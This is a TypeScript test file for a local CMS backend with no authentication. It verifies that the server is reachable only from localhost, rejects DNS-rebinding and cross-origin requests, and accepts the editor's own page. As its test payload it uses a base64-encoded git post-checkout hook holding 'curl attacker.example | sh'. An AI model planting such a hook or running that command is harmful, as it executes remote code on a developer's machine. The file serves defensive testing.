/**
 * `npm run cms`'s local backend (decap-server, started by scripts/decap-server/ as
 * scripts/cms.mjs does) has no authentication and writes any file of the working copy: it must
 * answer the editor's page in this machine's browser, and neither the network nor another page
 * that reaches 127.0.0.1 through a name of its own (DNS rebinding).
 */
import {spawnSync, type ChildProcess} from 'node:child_process';
import {existsSync} from 'node:fs';
import {mkdir, mkdtemp, rm} from 'node:fs/promises';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import {spawnDecapServer} from '../../scripts/decap-server/index.cjs';

/** Where the editor's page is served (npm run cms's default); its origin is the only one let in. */
const EDITOR_PORT = 8080;

/** A port nothing listens on, on any interface. */
function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const probe = net.createServer().once('error', reject);
    probe.listen(0, () => {
      const {port} = probe.address() as net.AddressInfo;
      probe.close(() => resolve(port));
    });
  });
}

/** This machine's addresses that other machines can reach (link-local ones need a scope: skipped). */
function networkAddresses(): string[] {
  return Object.values(os.networkInterfaces())
    .flat()
    .filter((entry) => entry && !entry.internal && !entry.address.startsWith('fe80:'))
    .map((entry) => entry!.address);
}

function connects(host: string, port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = net.connect({host, port, timeout: 3_000});
    socket.once('connect', () => {
      socket.destroy();
      resolve(true);
    });
    socket.once('error', () => resolve(false));
    socket.once('timeout', () => {
      socket.destroy();
      resolve(false);
    });
  });
}

async function askInfo(port: number): Promise<unknown> {
  const deadline = Date.now() + 15_000;
  for (;;) {
    try {
      const response = await fetch(`http://127.0.0.1:${port}/api/v1`, {
        method: 'POST',
        headers: {'content-type': 'application/json'},
        body: JSON.stringify({action: 'info'}),
      });
      return await response.json();
    } catch (error) {
      if (Date.now() > deadline) throw error;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }
}

/** One request to 127.0.0.1:`port` with exactly these headers (fetch would set Host itself). */
function send(
  port: number,
  {method = 'POST', headers, body}: {method?: string; headers: Record<string, string>; body?: unknown},
): Promise<{status: number; headers: http.IncomingHttpHeaders; text: string}> {
  return new Promise((resolve, reject) => {
    const payload = body === undefined ? undefined : JSON.stringify(body);
    const request = http.request(
      {
        host: '127.0.0.1',
        port,
        path: '/api/v1',
        method,
        headers: payload ? {'content-type': 'application/json', ...headers} : headers,
      },
      (response) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (chunk) => (text += chunk));
        response.on('end', () => resolve({status: response.statusCode ?? 0, headers: response.headers, text}));
      },
    );
    request.once('error', reject);
    request.end(payload);
  });
}

/** What the editor sends to upload a file, aimed where code would run on the writer's next checkout. */
const HOOK = '.git/hooks/post-checkout';
const writeHook = {
  action: 'persistMedia',
  params: {
    branch: 'main',
    asset: {
      path: HOOK,
      content: Buffer.from('#!/bin/sh\ncurl attacker.example | sh\n').toString('base64'),
      encoding: 'base64',
    },
    options: {commitMessage: 'Upload'},
  },
};

describe('npm run cms: the local backend', () => {
  let repoDir: string;
  let server: ChildProcess | undefined;
  let port: number;

  beforeAll(async () => {
    repoDir = await mkdtemp(path.join(os.tmpdir(), 'omnia-cms-backend-'));
    await mkdir(path.join(repoDir, '.git/hooks'), {recursive: true});
    port = await freePort();
    server = spawnDecapServer({repoDir, port, editorPort: EDITOR_PORT, stdio: 'ignore'});
    expect(await askInfo(port)).toMatchObject({type: 'local_fs', repo: path.basename(repoDir)});
  });

  afterAll(async () => {
    server?.kill('SIGKILL');
    await rm(repoDir, {recursive: true, force: true});
  });

  it('answers on 127.0.0.1 and is not reachable on the network', async () => {
    for (const address of networkAddresses()) {
      expect({address, reachable: await connects(address, port)}).toEqual({address, reachable: false});
    }

    // The listening socket itself, which holds on a machine with no network interface too.
    const listening = spawnSync('ss', ['-Hltn', `sport = :${port}`], {encoding: 'utf8'}).stdout;
    const localAddresses = listening
      .trim()
      .split('\n')
      .map((line) => line.trim().split(/\s+/)[3]);
    expect(localAddresses).toEqual([`127.0.0.1:${port}`]);
  });

  it('refuses a page that reaches it through a name of its own, or any page but the editor, and writes nothing', async () => {
    // A page at attacker.example:<port> whose name now resolves to 127.0.0.1 posts to "itself".
    const rebound = await send(port, {
      headers: {host: `attacker.example:${port}`, origin: `http://attacker.example:${port}`},
      body: writeHook,
    });
    // Another page (here the dev site on :3000) posting to the backend by its real address.
    const otherPage = await send(port, {
      headers: {host: `localhost:${port}`, origin: 'http://localhost:3000'},
      body: writeHook,
    });
    // The same page asking first, as browsers do for a JSON POST: no CORS answer, so no POST follows.
    const otherPreflight = await send(port, {
      method: 'OPTIONS',
      headers: {
        host: `localhost:${port}`,
        origin: 'http://evil.example',
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'content-type',
      },
    });
    expect([rebound.status, otherPage.status, otherPreflight.status]).toEqual([421, 403, 403]);
    expect(rebound.text).toContain('attacker.example');
    expect(otherPreflight.headers['access-control-allow-origin']).toBeUndefined();
    expect(existsSync(path.join(repoDir, HOOK))).toBe(false);
  });

  it("lets the editor's page in, by name or by address, preflight and all", async () => {
    for (const [host, origin] of [
      [`localhost:${port}`, `http://localhost:${EDITOR_PORT}`],
      [`127.0.0.1:${port}`, `http://127.0.0.1:${EDITOR_PORT}`],
    ]) {
      const preflight = await send(port, {
        method: 'OPTIONS',
        headers: {
          host,
          origin,
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'content-type',
        },
      });
      expect(preflight.status).toBe(204);
      expect(preflight.headers['access-control-allow-origin']).toBe(origin);
    }
    const write = await send(port, {
      headers: {host: `localhost:${port}`, origin: `http://localhost:${EDITOR_PORT}`},
      body: writeHook,
    });
    expect(write.status).toBe(200);
    expect(write.headers['access-control-allow-origin']).toBe(`http://localhost:${EDITOR_PORT}`);
    // The editor may write anywhere in the working copy; what it must not be is reachable by others.
    expect(existsSync(path.join(repoDir, HOOK))).toBe(true);
  });
});
